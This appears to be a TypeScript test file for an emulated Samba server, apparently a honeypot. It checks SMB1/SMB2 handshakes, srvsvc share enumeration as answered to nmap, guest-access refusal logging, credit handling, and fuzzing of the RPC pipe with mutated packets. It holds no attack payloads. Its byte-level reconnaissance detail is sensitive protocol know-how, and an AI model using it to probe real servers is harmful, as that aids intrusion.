    const fid = le16(nc, 4 + 33 + 5);
    const trans = (pdu: number[], mid: number) => {
      const pipeName = [...ascii("\\PIPE\\"), 0];
      const dataOff = 32 + 1 + 32 + 2 + pipeName.length;
      const w = [...u16(0), ...u16(pdu.length), ...u16(0), ...u16(4280), 0, 0, ...u16(0), ...u32(0), ...u16(0), ...u16(0), ...u16(dataOff), ...u16(pdu.length), ...u16(dataOff), 2, 0, ...u16(0x26), ...u16(fid)];
      const r = bytes(s.data(smb1t(0x25, w, [...pipeName, ...pdu], tid, mid)));
      expect(le32(r, 4 + 5)).toBe(0);
      expect(r[4 + 32]).toBe(10);
      const dOff = le16(r, 4 + 33 + 14);
      return r.subarray(4 + dOff, 4 + dOff + le16(r, 4 + 33 + 12));
    };
    const ack = trans(rpcBind([[SRVSVC_V3, NDR_V2]]), 5);
    expect(ack[2]).toBe(12);
    expect(toLatin1(ack.subarray(26, 26 + le16(ack, 24)))).toBe("\\PIPE\\srvsvc\0");
    const e = parseShareEnum(trans(netShareEnumAll(1), 6).subarray(24));
    const ipc = e.shares.find((x) => x.name === "IPC$")!;
    expect(ipc.comment).toBe(`IPC Service (${HOST.hostname.toLowerCase()} server)`);
    expect(e.shares.some((x) => x.name === "nobody")).toBe(false); // smbd 3 lists no home for a guest here
    // A listed share is refused to the guest, and the refusal is logged.
    const own = e.shares[0]!.name;
    const refused = s.data(smb1t(0x75, [0xff, 0, 0, 0, 0, 0, 1, 0], [0, ...ascii(`\\\\FILES\\${own}`), 0, ...ascii("?????"), 0], 0, 7));
    expect(le32(bytes(refused), 4 + 5)).toBe(0xc0000022);
    expect(events(refused, "command")[0]?.command).toBe(`SMB1 TREE_CONNECT \\\\FILES\\${own} (access denied)`);
    const close = bytes(s.data(smb1t(0x04, [...u16(fid), ...u32(0xffffffff)], [], tid, 8)));
    expect(le32(close, 4 + 5)).toBe(0);
  });
});

describe("samba: the srvsvc pipe under hostile input", () => {
  test("50,000 mutated PDUs written in random pieces: no throw, the pipe's buffers stay within PIPE_MAX_BUFFERED", () => {
    let seed = 12345;
    const rnd = (n: number) => {
      seed = (seed * 1103515245 + 12345) >>> 0;
      return seed % n;
    };
    const seeds = [rpcBind([[SRVSVC_V3, NDR_V2], [SRVSVC_V3, NDR64_V1], [SRVSVC_V3, BTFN_3]]), netShareEnumAll(1), netShareEnumAll(0), netShareEnumAll(502)];
    let answered = 0;
    for (let c = 0; c < 50_000; c++) {
      const pipe = new SrvsvcPipe({ shares: [{ name: "IPC$", type: 0x80000003, comment: "x", path: "C:\\tmp", uses: 1 }], secondaryAddress: "\\pipe\\srvsvc", bindTimeFeatures: true, referentBase: 3, getInfoReferentBase: 1, level2: true, assocGroup: () => 1 });
      const input = [...seeds[0]!, ...seeds[1 + rnd(3)]!];
      for (let k = rnd(8); k > 0; k--) {
        const at = rnd(input.length);
        const op = rnd(4);
        if (op === 0) input[at] = rnd(256);
        else if (op === 1) input.splice(at, 0, ...new Array(rnd(64)).fill(rnd(256)));
        else if (op === 2) input.splice(at, rnd(16));
        else input[at] = [0, 0xff, 0x7f, 0x80][rnd(4)]!;
      }
      const bytesIn = Uint8Array.from(input);
      for (let at = 0; at < bytesIn.length; ) {
        const n = 1 + rnd(200);
        pipe.write(bytesIn.subarray(at, at + n));
        at += n;
        expect(pipe.buffered).toBeLessThanOrEqual(PIPE_MAX_BUFFERED);
      }
      while (pipe.available > 0) {
        answered++;
        pipe.read(1 + rnd(5000));
      }
    }
    expect(answered).toBeGreaterThan(10_000);
  });

  test("a fragment longer than smbd's 5840 bytes is a protocol error: one fault, then the pipe is gone", () => {
    const pipe = new SrvsvcPipe({ shares: [], secondaryAddress: "\\pipe\\srvsvc", bindTimeFeatures: true, referentBase: 3, getInfoReferentBase: 1, level2: true, assocGroup: () => 1 });
    pipe.write(Uint8Array.from([5, 0, 11, 3, 0x10, 0, 0, 0, ...u16(6000), 0, 0, ...u32(9)]));
    const f = pipe.read(4096).data;
    expect([f[2], le32(f, 24)]).toEqual([3, 0x1c01000b]);
    expect(pipe.disconnected).toBe(true);
    expect(pipe.write(Uint8Array.from(rpcBind([[SRVSVC_V3, NDR_V2]])))).toEqual([]);
    expect(pipe.available).toBe(0);
  });
});

describe("samba: nmap's smb-enum-shares (NetShareGetInfo level 2)", () => {
  /** NetShareGetInfo (opnum 16): server name, the share name (a ref string), the level. */
  function netShareGetInfo(share: string, level: number): number[] {
    const server = [...ucs2("127.0.0.1"), 0, 0];
    const name = [...ucs2(share), 0, 0];
    const pad = (n: number) => new Array((4 - (n % 4)) % 4).fill(0);
    const stub = [...u32(0x20000), ...u32(10), ...u32(0), ...u32(10), ...server, ...pad(server.length), ...u32(share.length + 1), ...u32(0), ...u32(share.length + 1), ...name, ...pad(name.length), ...u32(level)];
    return rpcPdu(0, 3, [...u32(stub.length), ...u16(0), ...u16(16), ...stub]);
  }
  /** SHARE_INFO_2 (MS-SRVS 2.2.4.24) read the NDR way. */
  function parseInfo2(stub: Uint8Array) {
    let at = 0;
    const u = () => {
      at = (at + 3) & ~3;
      const v = le32(stub, at);
      at += 4;
      return v;
    };
    const str = () => {
      const max = u();
      u();
      expect(u()).toBe(max);
      const s = Buffer.from(stub.subarray(at, at + 2 * max)).toString("utf16le");
      at += 2 * max;
      return s.slice(0, -1);
    };
    const level = u();
    const ptr = u();
    if (ptr === 0) return { level, ptr, werr: u() };
    const fixed = { namePtr: u(), type: u(), commentPtr: u(), permissions: u(), maxUses: u(), uses: u(), pathPtr: u(), passwordPtr: u() };
    const out = { level, ptr, ...fixed, name: str(), comment: str(), path: str(), password: str(), werr: u() };
    expect(at).toBe(stub.length);
    return out;
  }

  test("level 2 to a guest, laid out as smbd 4.17 answered nmap: referents from 0x20004, C:-style path, unlimited uses, IPC$ in use once", () => {
    const c = ipcSession("samba-4.17-debian12");
    const { fileId } = openSrvsvc(c);
    transceive(c, fileId, rpcBind([[SRVSVC_V3, NDR_V2]]), 5);
    const p = parseInfo2(transceive(c, fileId, netShareGetInfo("print$", 2), 6).out.subarray(24));
    expect(p).toMatchObject({ level: 2, ptr: 0x20004, namePtr: 0x20008, type: 0, commentPtr: 0x2000c, permissions: 0, maxUses: 0xffffffff, uses: 0, pathPtr: 0x20010, passwordPtr: 0x20014 });
    expect(p).toMatchObject({ name: "print$", comment: "Printer Drivers", path: "C:\\var\\lib\\samba\\printers", password: "", werr: 0 });
    const ipc = parseInfo2(transceive(c, fileId, netShareGetInfo("IPC$", 2), 7).out.subarray(24));
    expect(ipc).toMatchObject({ type: 0x80000003, uses: 1, path: "C:\\tmp", comment: "IPC Service (Samba 4.17.12-Debian)" });
    const home = parseInfo2(transceive(c, fileId, netShareGetInfo("nobody", 2), 8).out.subarray(24));
    expect(home).toMatchObject({ comment: "Home Directories", path: "C:\\nonexistent" });
    expect(parseInfo2(transceive(c, fileId, netShareGetInfo("nosuch", 2), 9).out.subarray(24))).toEqual({ level: 2, ptr: 0, werr: 0x7b });
  });
});

describe("samba: nmap's msrpc over SMB1 (WRITE_ANDX, then READ_ANDX)", () => {
  test("the bind goes in with WRITE_ANDX (count back) and its answer comes out with READ_ANDX (data at 60)", () => {
    const s = session("samba-4.5.16-debian");
    s.data(negprot(["NT LM 0.12"], 0x4001));
    const words = [0xff, 0, 0, 0, ...u16(0xffff), ...u16(2), ...u16(1), ...u32(0), ...u16(0), ...u16(0), ...u32(0), ...u32(0xd4)];
    const ss = bytes(s.data(smb1({ cmd: 0x73, flags2: 0x4001, words, data: [0, 0, 0, ...ascii("Unix"), 0, ...ascii("Samba"), 0] })));
    const uid = le16(ss, 4 + 28);
    const msg = (cmd: number, w: number[], data: number[], tid: number, mid: number) => {
      const header = [0xff, 0x53, 0x4d, 0x42, cmd, 0, 0, 0, 0, 0x18, ...u16(0x4001), ...new Array(12).fill(0), ...u16(tid), ...u16(0xfeff), ...u16(uid), ...u16(mid)];
      return nb([...header, w.length / 2, ...w, ...u16(data.length), ...data]);
    };
    const tcon = bytes(s.data(msg(0x75, [0xff, 0, 0, 0, 0, 0, 1, 0], [0, ...ascii("\\\\X\\IPC$"), 0, ...ascii("?????"), 0], 0, 3)));
    // smbd 4's IPC$ answer (measured on 4.17 with SMB1 on): 7 words, optional support 1, access 0x1ff twice.
    expect(Array.from(tcon.subarray(4 + 32, 4 + 33 + 14))).toEqual([7, 0xff, 0, 0, 0, 1, 0, 0xff, 1, 0, 0, 0xff, 1, 0, 0]);
    const tid = le16(tcon, 4 + 24);
    const name = [...ascii("\\srvsvc"), 0];
    const ncw = [0xff, 0, 0, 0, 0, ...u16(name.length - 1), ...u32(0x16), ...u32(0), ...u32(0x0002019f), ...new Array(8).fill(0), ...u32(0), ...u32(3), ...u32(1), ...u32(0), ...u32(2), 0];
    const fid = le16(bytes(s.data(msg(0xa2, ncw, name, tid, 4))), 4 + 33 + 5);
    const pdu = rpcBind([[SRVSVC_V3, NDR_V2]]);
    // WRITE_ANDX, 14 words: the data right after the byte count (32 + 1 + 28 + 2 = 63, one pad byte: 64).
    const ww = [0xff, 0, 0, 0, ...u16(fid), ...u32(0), ...u32(0), ...u16(0x08), ...u16(pdu.length), ...u16(0), ...u16(pdu.length), ...u16(64), ...u32(0)];
    const w = bytes(s.data(msg(0x2f, ww, [0, ...pdu], tid, 5)));
    expect(le32(w, 4 + 5)).toBe(0);
    expect(w[4 + 32]).toBe(6);
    expect(le16(w, 4 + 33 + 4)).toBe(pdu.length);
    const rw = [0xff, 0, 0, 0, ...u16(fid), ...u32(0), ...u16(1024), ...u16(1024), ...u32(0), ...u16(0), ...u32(0)];
    const r = bytes(s.data(msg(0x2e, rw, [], tid, 6)));
    expect(le32(r, 4 + 5)).toBe(0);
    expect(r[4 + 32]).toBe(12);
    const len = le16(r, 4 + 33 + 10);
    const off = le16(r, 4 + 33 + 12);
    expect(off).toBe(60);
    const ack = r.subarray(4 + off, 4 + off + len);
    expect([ack[0], ack[2]]).toEqual([5, 12]);
    expect(le16(ack, 8)).toBe(len);
    // Nothing left: a second read waits (no answer), as smbd blocks on the empty pipe.
    expect(bytes(s.data(msg(0x2e, rw, [], tid, 7))).length).toBe(0);
  });
});

describe("samba: smbd 4.17's credits (measured with smbclient)", () => {
  test("1 while the session setup goes on whatever is asked, 8192 when it succeeds, then each request's charge back", () => {
    const s = session("samba-4.17-debian12");
    const neg = frames(bytes(s.data(smb2Negotiate([0x0302]))))[0]!;
    expect(le16(neg, 14)).toBe(1);
    const ss = (blob: number[]) => [...u16(25), 0, 1, ...u32(1), ...u32(0), ...u16(64 + 24), ...u16(blob.length), ...u32(0), ...u32(0), ...blob];
    const r1 = frames(bytes(s.data(smb2t(1, ss(spnegoInit(NTLM_NEGOTIATE)), { sid: 0, mid: 1, credits: 8192 }))))[0]!;
    expect(le16(r1, 14)).toBe(1);
    const sid = le32(r1, 40);
    const r2 = frames(bytes(s.data(smb2t(1, ss(spnegoResp(ntlmAuthenticate("bob", "", "", [], new Array(40).fill(7)))), { sid, mid: 2, credits: 1 }))))[0]!;
    expect(le32(r2, 8)).toBe(0);
    expect(le16(r2, 14)).toBe(8192);
    const path = ucs2("\\\\h\\IPC$");
    const tc = frames(bytes(s.data(smb2t(3, [...u16(9), ...u16(0), ...u16(72), ...u16(path.length), ...path], { sid, mid: 3, credits: 64 }))))[0]!;
    expect(le16(tc, 14)).toBe(1); // the window is full: the charge back, not the 64 asked
    // Reply flags carry the request's priority bits back (3.1.1 clients send 0x10).
    expect(le32(tc, 16)).toBe(0x01);
  });
});
